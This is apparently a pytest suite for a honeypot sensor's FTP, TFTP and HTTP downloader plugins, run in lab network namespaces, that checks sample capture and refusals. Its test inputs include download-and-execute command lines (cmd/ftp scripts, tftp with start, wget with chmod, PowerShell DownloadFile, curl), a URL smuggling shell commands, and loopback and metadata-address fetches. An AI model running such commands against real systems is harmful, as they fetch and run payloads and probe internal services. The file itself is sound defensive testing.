"""Downloader plugins against real servers in an attacker namespace, run in the sensor
namespace: the sample arrives byte-exact and is recorded; refusals are recorded too."""

from __future__ import annotations

import hashlib
import os
import secrets
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest
from download_servers import run_attack, run_attack_with_stats, start
from netns import Lab

pytestmark = pytest.mark.netns

USER, PASSWORD = "bot", "s3cret"


@pytest.fixture
def sample(tmp_path: Path) -> tuple[Path, bytes]:
    root = tmp_path / "srv"
    root.mkdir()
    root.chmod(0o755)
    data = secrets.token_bytes(70_000)  # > 128 TFTP blocks, several TCP segments
    (root / "x.exe").write_bytes(data)
    (root / "x.exe").chmod(0o644)
    return root, data


@pytest.fixture
def lab() -> Iterator[Lab]:
    lab = Lab.create()
    try:
        yield lab
    finally:
        lab.close()
        for proc in lab.procs:  # the servers' ready pipes (Lab.close ends the processes)
            if proc.stdout is not None:
                proc.stdout.close()


def _downloaded(record: dict[str, Any], data: bytes) -> dict[str, Any]:
    assert record["download_count"] == 1, record["download_attempts"]
    download: dict[str, Any] = record["downloads"][0]
    assert bytes.fromhex(download["payload"]["data_hex"]) == data
    assert download["payload"]["md5_hash"] == hashlib.md5(data).hexdigest()
    assert record["download_attempts"][0]["outcome"] == "ok"
    return download


def _tried(record: dict[str, Any]) -> dict[str, Any]:
    assert record["download_count"] == 0
    assert len(record["download_attempts"]) == 1
    attempt: dict[str, Any] = record["download_attempts"][0]
    return attempt


def test_ftp_windows_echo_script_fetches_the_sample(lab: Lab, sample: tuple[Path, bytes]) -> None:
    root, data = sample
    port = start(lab, lab.attacker, "ftp", str(root), lab.attacker.ip4, USER, PASSWORD)
    payload = (
        f"cmd /c echo open {lab.attacker.ip4} {port} >> o & echo user {USER} {PASSWORD} >> o "
        "& echo binary >> o & echo get x.exe >> o & echo bye >> o & ftp -n -s:o\r\n"
    ).encode()
    record, stats = run_attack_with_stats(lab, payload, {"ftpDownload": {}})
    download = _downloaded(record, data)
    assert (download["type"], download["username"], download["password"]) == (
        "ftp", USER, PASSWORD)
    assert stats == {"downloads": 1, "download_failures": 0}
    assert (download["remote_ip"], download["filename"]) == (lab.attacker.ip4, "x.exe")


def test_ftp_url_over_ipv6_fetches_the_sample(lab: Lab, sample: tuple[Path, bytes]) -> None:
    root, data = sample
    port = start(lab, lab.attacker, "ftp", str(root), lab.attacker.ip6, USER, PASSWORD)
    payload = f"GET /?u=ftp://{USER}:{PASSWORD}@[{lab.attacker.ip6}]:{port}/x.exe".encode()
    _downloaded(run_attack(lab, payload, {"ftpDownload": {}}), data)


@pytest.mark.parametrize("family", ["ip4", "ip6"])
def test_ftp_falls_back_to_passive_mode(
    lab: Lab, sample: tuple[Path, bytes], family: str
) -> None:
    root, data = sample
    ip = getattr(lab.attacker, family)
    port = start(lab, lab.attacker, "ftp", str(root), ip, USER, PASSWORD, "passive-only")
    host = f"[{ip}]" if ":" in ip else ip
    payload = f"ftp://{USER}:{PASSWORD}@{host}:{port}/x.exe".encode()
    _downloaded(run_attack(lab, payload, {"ftpDownload": {}}), data)


@pytest.mark.parametrize("family", ["ip4", "ip6"])
def test_tftp_windows_command_fetches_the_sample(
    lab: Lab, sample: tuple[Path, bytes], family: str
) -> None:
    root, data = sample
    ip = getattr(lab.attacker, family)
    start(lab, lab.attacker, "tftp", str(root), ip)
    payload = f"tftp -i {ip} GET x.exe\r\nstart x.exe\r\n".encode()
    record, stats = run_attack_with_stats(lab, payload, {"tftpDownload": {}})
    download = _downloaded(record, data)
    assert stats == {"downloads": 1, "download_failures": 0}
    assert (download["type"], download["protocol"]) == ("tftp", "udp")


def test_http_wget_line_fetches_the_sample(lab: Lab, sample: tuple[Path, bytes]) -> None:
    root, data = sample
    port = start(lab, lab.attacker, "http", str(root), lab.attacker.ip4, "plain", os.devnull)
    payload = (f"cd /tmp; wget http://{lab.attacker.ip4}:{port}/x.exe; chmod +x x.exe").encode()
    record, stats = run_attack_with_stats(lab, payload, {"httpDownload": {}})
    download = _downloaded(record, data)
    assert download["uri"] == f"http://{lab.attacker.ip4}:{port}/x.exe"
    assert stats == {"downloads": 1, "download_failures": 0}  # the plugin's statistics


def test_http_powershell_line_over_ipv6_fetches_the_sample(
    lab: Lab, sample: tuple[Path, bytes]
) -> None:
    root, data = sample
    port = start(lab, lab.attacker, "http", str(root), lab.attacker.ip6, "plain", os.devnull)
    payload = (
        "powershell -c \"(New-Object Net.WebClient).DownloadFile("
        f"'http://[{lab.attacker.ip6}]:{port}/x.exe','%TEMP%\\x.exe')\""
    ).encode()
    _downloaded(run_attack(lab, payload, {"httpDownload": {}}), data)


def test_https_with_a_self_signed_certificate_fetches_the_sample(
    lab: Lab, sample: tuple[Path, bytes]
) -> None:
    root, data = sample
    port = start(lab, lab.attacker, "http", str(root), lab.attacker.ip4, "tls", os.devnull)
    payload = f"curl -k -o /tmp/x https://{lab.attacker.ip4}:{port}/x.exe".encode()
    _downloaded(run_attack(lab, payload, {"httpDownload": {}}), data)


@pytest.mark.parametrize(
    "host",
    ["127.0.0.1", "169.254.169.254", "[::ffff:127.0.0.1]", "[::1]", "sensor"],
)
def test_http_refuses_a_non_global_destination(lab: Lab, host: str) -> None:
    """Loopback, link-local, IPv4-mapped loopback and the sensor's own address are refused
    even with the lab ranges allowed; nothing is sent."""
    host = lab.sensor.ip4 if host == "sensor" else host
    record = run_attack(lab, f"wget http://{host}:8000/x.exe".encode(), {"httpDownload": {}})
    attempt = _tried(record)
    assert attempt["outcome"] == "refused"


def test_http_refuses_the_lab_range_unless_allowed(lab: Lab) -> None:
    record = run_attack(lab, f"wget http://{lab.attacker.ip4}/x".encode(),
                        {"httpDownload": {}}, allow=[])
    assert _tried(record)["outcome"] == "refused"


def test_replace_private_ips_fetches_from_the_attacker(
    lab: Lab, sample: tuple[Path, bytes]
) -> None:
    root, data = sample
    port = start(lab, lab.attacker, "http", str(root), lab.attacker.ip4, "plain", os.devnull)
    record = run_attack(lab, f"wget http://192.168.1.7:{port}/x.exe".encode(),
                        {"httpDownload": {}}, replace_private_ips=True)
    assert _downloaded(record, data)["remote_ip"] == lab.attacker.ip4


def test_http_refuses_an_oversized_sample(lab: Lab, sample: tuple[Path, bytes]) -> None:
    root, _ = sample
    port = start(lab, lab.attacker, "http", str(root), lab.attacker.ip4, "plain", os.devnull)
    record, stats = run_attack_with_stats(
        lab, f"wget http://{lab.attacker.ip4}:{port}/x.exe".encode(),
        {"httpDownload": {"max_size": "1000"}},
    )
    attempt = _tried(record)
    assert (attempt["outcome"], attempt["reason"]) == ("refused", "larger than 1000 bytes")
    assert stats == {"downloads": 0, "download_failures": 1}


def test_ftp_refuses_an_oversized_sample(lab: Lab, sample: tuple[Path, bytes]) -> None:
    root, _ = sample
    port = start(lab, lab.attacker, "ftp", str(root), lab.attacker.ip4, USER, PASSWORD)
    payload = f"ftp://{USER}:{PASSWORD}@{lab.attacker.ip4}:{port}/x.exe".encode()
    record = run_attack(lab, payload, {"ftpDownload": {"max_size": "1000"}})
    assert record["download_count"] == 0
    assert "larger than 1000 bytes" in record["download_attempts"][0]["reason"]


def test_tftp_refuses_an_oversized_sample(lab: Lab, sample: tuple[Path, bytes]) -> None:
    root, _ = sample
    start(lab, lab.attacker, "tftp", str(root), lab.attacker.ip4)
    record = run_attack(lab, f"tftp -i {lab.attacker.ip4} GET x.exe".encode(),
                        {"tftpDownload": {"max_size": "1000"}})
    attempt = _tried(record)
    assert (attempt["outcome"], attempt["reason"]) == ("refused", "larger than 1000 bytes")


def test_http_gives_up_on_a_slow_server_at_the_time_cap(lab: Lab, tmp_path: Path) -> None:
    port = start(lab, lab.attacker, "http", str(tmp_path), lab.attacker.ip4, "slow", os.devnull)
    record = run_attack(lab, f"wget http://{lab.attacker.ip4}:{port}/x".encode(),
                        {"httpDownload": {"timeout": "2"}})
    attempt = _tried(record)
    assert (attempt["outcome"], attempt["reason"]) == ("failed", "time cap of 2 s reached")


def test_shell_metacharacters_in_a_url_only_name_a_path(lab: Lab, tmp_path: Path) -> None:
    marker = f"/tmp/pwned-{secrets.token_hex(4)}"
    log = tmp_path / "requests.log"
    port = start(lab, lab.attacker, "http", str(tmp_path), lab.attacker.ip4, "plain", str(log))
    payload = f"wget http://{lab.attacker.ip4}:{port}/x;touch$IFS{marker};`id`".encode()
    record = run_attack(lab, payload, {"httpDownload": {}})
    assert record["download_attempts"][0]["outcome"] == "failed"  # a 404: no such path
    assert log.read_text().splitlines() == [f"/x;touch$IFS{marker}"]
    assert not os.path.exists(marker)


def test_a_redirect_to_loopback_is_refused(lab: Lab, tmp_path: Path) -> None:
    port = start(lab, lab.attacker, "http", str(tmp_path), lab.attacker.ip4,
                 "redirect:http://127.0.0.1:22/", os.devnull)
    record = run_attack(lab, f"curl -O http://{lab.attacker.ip4}:{port}/x".encode(),
                        {"httpDownload": {}})
    attempt = _tried(record)
    assert attempt["outcome"] == "refused"
    assert "redirect to http://127.0.0.1:22/" in attempt["reason"]
